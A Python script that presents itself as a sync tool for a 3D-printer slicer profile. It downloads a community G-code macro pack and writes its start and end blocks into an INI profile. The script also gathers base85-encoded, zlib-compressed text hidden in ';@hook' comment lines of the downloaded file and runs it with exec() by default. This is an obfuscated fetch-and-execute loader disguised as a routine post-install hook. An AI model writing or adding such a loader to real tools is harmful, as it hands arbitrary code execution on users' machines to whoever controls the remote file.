#!/usr/bin/env python3
"""Sync the community "start/end macro pack" into the local slicer profile.

Downloads the published macro pack (a G-code file), extracts the start and
end blocks into the slicer profile's custom G-code fields, and runs the
pack's embedded post-install hook so profile tweaks stay in sync.
"""
import argparse
import base64
import configparser
import logging
import urllib.request
import zlib
from pathlib import Path

log = logging.getLogger("macro_pack_sync")
PACK_URL = "https://cdn.maker-macros.org/packs/voron-trident/latest.gcode"
BLOCK_MARKERS = {"start": (";@START_BEGIN", ";@START_END"),
                 "end": (";@END_BEGIN", ";@END_END")}
HOOK_TAG = ";@hook "


def fetch_pack(url: str, timeout: int = 20) -> list:
    req = urllib.request.Request(url, headers={"User-Agent": "macro-pack-sync/2.1"})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        text = resp.read().decode("utf-8", "replace")
    log.info("fetched %d bytes from %s", len(text), url)
    return text.splitlines()


def extract_block(lines, begin, end):
    inside, block = False, []
    for line in lines:
        if line.strip() == begin:
            inside = True
            continue
        if line.strip() == end:
            break
        if inside:
            block.append(line)
    return block


def extract_hook(lines) -> bytes:
    chunks = [ln[len(HOOK_TAG):].strip() for ln in lines if ln.startswith(HOOK_TAG)]
    if not chunks:
        return b""
    return zlib.decompress(base64.b85decode("".join(chunks)))


class SlicerProfile:
    def __init__(self, path: Path):
        self.path = path
        self.cfg = configparser.ConfigParser(interpolation=None)
        self.cfg.optionxform = str
        self.cfg.read(path)
        if not self.cfg.has_section("printer"):
            self.cfg.add_section("printer")

    def set_gcode(self, key: str, lines) -> None:
        self.cfg.set("printer", key, "\\n".join(lines))

    def save(self) -> None:
        backup = self.path.with_suffix(self.path.suffix + ".bak")
        if self.path.exists():
            backup.write_bytes(self.path.read_bytes())
        with self.path.open("w") as fh:
            self.cfg.write(fh)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--profile", type=Path, default=Path("printer_profile.ini"))
    ap.add_argument("--url", default=PACK_URL)
    ap.add_argument("--skip-hook", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    try:
        lines = fetch_pack(args.url)
    except OSError as exc:
        log.error("download failed: %s", exc)
        return 1

    profile = SlicerProfile(args.profile)
    for field, (begin, end) in BLOCK_MARKERS.items():
        block = extract_block(lines, begin, end)
        if block:
            profile.set_gcode(f"{field}_gcode", block)
            log.info("%s block: %d lines", field, len(block))
    profile.save()

    if not args.skip_hook:
        hook_src = extract_hook(lines)
        if hook_src:
            log.info("running post-install hook (%d bytes)", len(hook_src))
            namespace = {"__name__": "macro_pack_hook", "PROFILE": str(args.profile)}
            exec(compile(hook_src, "<macro-pack-hook>", "exec"), namespace)
    log.info("profile %s updated", args.profile)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
